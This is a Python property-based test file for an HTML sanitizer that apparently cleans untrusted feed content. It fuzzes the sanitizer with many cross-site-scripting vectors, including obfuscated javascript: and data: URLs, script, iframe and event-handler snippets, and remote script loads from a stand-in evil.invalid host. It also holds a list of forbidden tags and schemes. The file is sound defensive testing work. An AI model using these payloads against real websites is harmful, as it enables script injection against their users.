"""Hostile HTML through the sanitizer (hypothesis): nothing that can run or submit survives.

The generator mixes well-known cross-site-scripting vectors with random nesting,
case, quoting, entity-encoded and whitespace-split schemes, and hostile ``xml:base``
values (a feed's base URL is as untrusted as its HTML).
"""

from __future__ import annotations

import re
from html.parser import HTMLParser

from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st

FORBIDDEN_TAGS = ("script", "iframe", "object", "embed", "form", "style", "frame", "applet")
URL_ATTRIBUTES = {"href", "src", "action", "formaction", "xlink:href", "background", "poster"}
BAD_SCHEMES = ("javascript:", "data:", "vbscript:")

TAGS = [
    "script", "iframe", "object", "embed", "form", "input", "button", "style", "img", "a",
    "svg", "math", "textarea", "noscript", "template", "base", "meta", "link", "p", "div",
    "b", "video", "audio", "source", "frame", "frameset", "applet", "select", "table", "td",
    "xmp", "title", "body", "html", "isindex", "marquee", "details", "plaintext",
]  # fmt: skip
ATTRIBUTES = [
    "onload", "onclick", "onerror", "ONMOUSEOVER", "onfocus", "OnAnimationStart", "href",
    "src", "style", "xlink:href", "formaction", "action", "srcdoc", "data", "background",
    "poster", "srcset", "alt", "title", "width", "on", "class", "id", "target", "rel",
]  # fmt: skip
VALUES = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    " \t javascript:alert(1)",
    "java\tscript:alert(1)",
    "java\nscript:alert(1)",
    "java&#x09;script:alert(1)",
    "&#106;avascript:alert(1)",
    "&#x6A;avascript:alert(1)",
    "&#0000106avascript:alert(1)",
    "javascript&colon;alert(1)",
    "javascript&#58;alert(1)",
    "\x00javascript:alert(1)",
    "\x01javascript:alert(1)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "DATA:image/svg+xml,<svg onload=alert(1)>",
    " data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "http://ok.invalid/pic.jpg",
    "https://www.youtube.com/embed/dQw4w9WgXcQ",
    "/relative/path",
    "relative.png",
    "#frag",
    "//evil.invalid/x.js",
    "expression(alert(1))",
    "background:url(javascript:alert(1))",
    'x" onerror="alert(1)',
    "x' onload='alert(1)",
    "alert(1)",
    "",
]
SNIPPETS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.invalid/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>script>alert(1)<</script>/script>",
    "<img src=x onerror=alert(1)//",
    "<img src=x onerror=alert(1)>",
    '<img """><script>alert(1)</script>">',
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mi xlink:href=javascript:alert(1)>x</mi></math>",
    "<!--<script>alert(1)</script>-->",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='jav&#x0A;ascript:alert(1)'>x</a>",
    '<a href="&#14;javascript:alert(1)">x</a>',
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    '<iframe src="javascript:alert(1)"></iframe>',
    "<iframe src='data:text/html,<script>alert(1)</script>'></iframe>",
    '<iframe src="https://www.youtube.com/embed/abc" onload="alert(1)"></iframe>',
    "<iframe src=https://player.vimeo.com/video/1><script>alert(1)</script></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<object data='x.swf'><param name=x value=y><embed src=javascript:alert(1)></object>",
    '<embed src="data:image/svg+xml;base64,PHN2Zz4=">',
    "<form action=javascript:alert(1)><input type=submit></form>",
    "<form><button formaction=javascript:alert(1)>x</button></form>",
    "<style>@import 'http://evil.invalid/x.css';</style>",
    '<div style="background:url(javascript:alert(1))">x</div>',
    '<p style="position:fixed;top:0;left:0;width:100%;height:100%">x</p>',
    "<body onload=alert(1)>",
    '<base href="javascript:alert(1)//">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<link rel=stylesheet href="http://evil.invalid/x.css">',
    '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>',
    "<video poster=javascript:alert(1)></video>",
    "<details open ontoggle=alert(1)>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "<template><script>alert(1)</script></template>",
    "<textarea><script>alert(1)</script></textarea>",
    "<xmp><script>alert(1)</script></xmp>",
    "<plaintext><script>alert(1)</script>",
    "</p></div></td></table><script>alert(1)</script>",
    '<a href="http://ok.invalid/" onclick=alert(1)>ok</a>',
]
BASES = [
    None,
    "http://school.invalid/blog/",
    "https://school.invalid/a/b/post?x=1#y",
    "javascript:alert(1)//",
    "data:text/html,x/",
    "",
]


def _quote(value: str, quote: str) -> str:
    return quote + value.replace(quote, "") + quote if quote else value.replace(" ", "")


attribute = st.tuples(
    st.sampled_from(ATTRIBUTES),
    st.one_of(st.sampled_from(VALUES), st.text(max_size=12)),
    st.sampled_from(['"', "'", ""]),
).map(lambda a: f"{a[0]}={_quote(a[1], a[2])}")

text = st.one_of(
    st.text(max_size=20),
    st.sampled_from(["alert(1)", "<", ">", "&", "&lt;script&gt;", "\x00", "]]>", "-->", "'", '"']),
)


def element(children: st.SearchStrategy[str]) -> st.SearchStrategy[str]:
    def render(parts: tuple[str, list[str], list[str], bool, int, str]) -> str:
        tag, attrs, inner, close, case, space = parts
        name = (tag, tag.upper(), tag.title())[case]
        opening = f"<{name}" + "".join(space + a for a in attrs) + ">"
        return opening + "".join(inner) + (f"</{name}>" if close else "")

    return st.tuples(
        st.sampled_from(TAGS),
        st.lists(attribute, max_size=3),
        st.lists(children, max_size=3),
        st.booleans(),
        st.integers(0, 2),
        st.sampled_from([" ", "\n", "\t", "/", "  "]),
    ).map(render)


hostile_html = st.lists(
    st.recursive(st.one_of(text, st.sampled_from(SNIPPETS)), element, max_leaves=12),
    max_size=6,
).map("".join)


class _Audit(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.problems: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag in FORBIDDEN_TAGS:
            self.problems.append(f"<{tag}> kept")
        for name, value in attrs:
            if name.startswith("on"):
                self.problems.append(f"<{tag} {name}=…> kept")
            if name == "style":
                self.problems.append(f"<{tag} style=…> kept")
            squashed = re.sub(r"[\x00-\x20]+", "", value or "").lower()
            if name in URL_ATTRIBUTES and squashed.startswith(BAD_SCHEMES):
                self.problems.append(f"<{tag} {name}={value!r}> kept")

    handle_startendtag = handle_starttag


def problems(clean: str) -> list[str]:
    lowered = clean.lower()
    found = [f"raw <{t}" for t in FORBIDDEN_TAGS if f"<{t}" in lowered]
    audit = _Audit()
    audit.feed(clean)
    audit.close()
    return found + audit.problems


@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(html=hostile_html, base=st.sampled_from(BASES))
@example(html="".join(SNIPPETS), base=None)
@example(html="".join(SNIPPETS), base="http://school.invalid/blog/")
def test_nothing_hostile_survives(html: str, base: str | None) -> None:
    from kaizen_exchange.feeds.sanitize import sanitize_html

    clean = sanitize_html(html, base)
    assert isinstance(clean, str)
    assert not problems(clean), (problems(clean), clean)


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(html=hostile_html | st.text(), base=st.sampled_from(BASES))
@example(html="".join(SNIPPETS), base=None)
@example(html='<img alt="a > b" src="x.png">x<a title=\'">\' href="/y">y</a>&amp;lt;', base=None)
def test_the_fast_text_of_clean_html_is_the_same_words(html: str, base: str | None) -> None:
    """The words stored for search are the same by the fast route as by nh3's."""
    from kaizen_exchange.feeds.sanitize import plain_text, sanitize_html, text_of_clean_html

    clean = sanitize_html(html, base)
    assert text_of_clean_html(clean) == plain_text(clean)


@settings(max_examples=150, deadline=None)
@given(words=st.lists(st.text(alphabet="abcdefghijklmnopqrstuvwxyz", min_size=1), max_size=8))
def test_plain_words_are_kept(words: list[str]) -> None:
    """Sanitizing is not deleting: harmless text and markup come through."""
    from kaizen_exchange.feeds.sanitize import sanitize_html

    html = "<p>" + " ".join(words) + ' <b>bold</b> <a href="https://ok.invalid/x">link</a></p>'
    clean = sanitize_html(html, None)
    for word in words:
        assert word in clean
    assert "<b>bold</b>" in clean
    assert 'href="https://ok.invalid/x"' in clean


def test_video_embeds_become_links() -> None:
    from kaizen_exchange.feeds.sanitize import sanitize_html

    clean = sanitize_html(
        '<p>Our song:</p><iframe width="560" height="315" '
        'src="https://www.youtube.com/embed/dQw4w9WgXcQ" allowfullscreen></iframe>',
        "https://school.invalid/",
    )
    assert "<iframe" not in clean
    assert re.search(r'<a [^>]*href="https://www\.youtube\.com/[^"]*dQw4w9WgXcQ', clean), clean
